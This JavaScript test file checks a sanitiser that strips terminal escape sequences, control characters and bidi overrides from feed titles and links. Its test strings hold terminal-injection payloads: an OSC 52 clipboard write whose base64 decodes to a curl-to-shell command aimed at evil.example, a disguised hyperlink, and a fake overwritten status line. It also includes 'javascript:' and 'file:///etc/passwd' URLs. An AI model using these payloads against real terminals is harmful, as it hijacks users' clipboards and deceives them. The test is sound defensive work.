import test from 'ava';
import fc from 'fast-check';
import {
  firstControlCharacter,
  terminalJson,
  terminalLines,
  terminalLink,
  terminalText,
} from '../../domain/terminal-text.js';
import { webAddress } from '../../domain/text/web-address.js';

/** What the rule keeps out of a terminal: C0, DEL, C1, the separators, the bidi controls. */
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** A feed title of the attack: a clipboard write (OSC 52), a disguised link, a CR and a screen clear. */
const HOSTILE =
  'Limits reset\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007 \u001b]8;;https://evil.example\u001b\\here\u001b]8;;\u001b\\\r[fake] all clear\u009b2J\u0000\u202eevil\u2028next\u007f';

test('terminalText keeps the printable text and drops every escape, CR, BEL, NUL, C1 and bidi control', (t) => {
  const shown = terminalText(HOSTILE);
  t.false(UNSAFE.test(shown), JSON.stringify(shown));
  t.true(shown.startsWith('Limits reset]52;c;'));
  t.true(shown.includes(' [fake] all clear'), 'the CR became a space: nothing is overwritten');
  t.true(shown.endsWith('evil next'));
});

test('terminalText leaves printable text of any script as it is, and breaks become one space', (t) => {
  for (const text of [
    'Five-hour limits reset · 40m ago',
    '新しいリセット 40分前',
    '초기화 😀 é',
    'a\tb\r\nc',
  ])
    t.is(terminalText(text), text.replace(/[\t\r\n]+/g, ' '));
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const shown = terminalText(text);
      return !UNSAFE.test(shown) && terminalText(shown) === shown;
    }),
  );
});

test('firstControlCharacter names the first character the rule keeps out, or null', (t) => {
  t.is(firstControlCharacter('Weekly limits up 50 %'), null);
  t.is(firstControlCharacter('title\u001b[2J'), 'U+001B');
  t.is(firstControlCharacter('a\u202eb'), 'U+202E');
  t.is(firstControlCharacter('line\nbreak'), 'U+000A');
});

test('terminalLink gives an http(s) address with no control character, and null for anything else', (t) => {
  t.is(terminalLink('https://tracker.test/events/recent-reset'), 'https://tracker.test/events/recent-reset');
  t.is(terminalLink('http://127.0.0.1:3000/events/a b'), 'http://127.0.0.1:3000/events/a%20b');
  for (const url of [
    'javascript:alert(1)',
    'file:///etc/passwd',
    'mailto:a@example.org',
    'https://tracker.test/e\u001b]8;;https://evil.example\u001b\\',
    'https://tracker.test/e\u0007',
    'not a url',
  ])
    t.is(terminalLink(url), null, JSON.stringify(url));
});

test('terminalJson escapes what JSON leaves raw, and parses to the same value', (t) => {
  const value = { title: HOSTILE, n: 1 };
  const json = terminalJson(value);
  t.false(UNSAFE.test(json), json);
  t.deepEqual(JSON.parse(json), value);
});

/** What the fourth attack put in a feed's title: a clipboard write, a disguised link, a rewritten line. */
const FEED_TITLE =
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007Limits reset' +
  '\u001b]8;;https://evil.example\u001b\\here\u001b]8;;\u001b\\\r[fake] all clear\u009b2J\u202eevil\u2028\u0000\u007f';

test('a line from outside reaches a terminal without any control character', (t) => {
  const line = terminalText(`${FEED_TITLE}\nnext\tline`);
  t.notRegex(line, /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
  t.is(
    line,
    // Each line break (the CR that would rewrite the line, U+2028, the newline) reads as a space.
    ']52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=Limits reset]8;;https://evil.example\\here]8;;\\ [fake] all clear2Jevil  next line',
  );
});

test('a block of text keeps its line breaks and tabs, and loses every other control', (t) => {
  t.is(terminalLines('one\r\n\u001b[2Jtwo\tthree\u2029'), 'one\n[2Jtwo\tthree');
});

test('JSON for a terminal escapes the controls JSON.stringify leaves raw, and reads back the same', (t) => {
  const value = { title: FEED_TITLE };
  const json = terminalJson(value, 2);
  t.notRegex(json, /(?!\n)[\p{Cc}\u2028\u2029\u202a-\u202e]/u);
  t.deepEqual(JSON.parse(json), value);
});

test('only an http(s) address is a link', (t) => {
  t.is(webAddress('https://www.anthropic.com/news/x'), 'https://www.anthropic.com/news/x');
  t.is(webAddress('http://status.claude.com/'), 'http://status.claude.com/');
  for (const url of [
    'javascript:alert(1)',
    'file:///etc/passwd',
    'mailto:a@b.example',
    'data:text/html,x',
    'nope',
  ])
    t.is(webAddress(url), null, url);
});
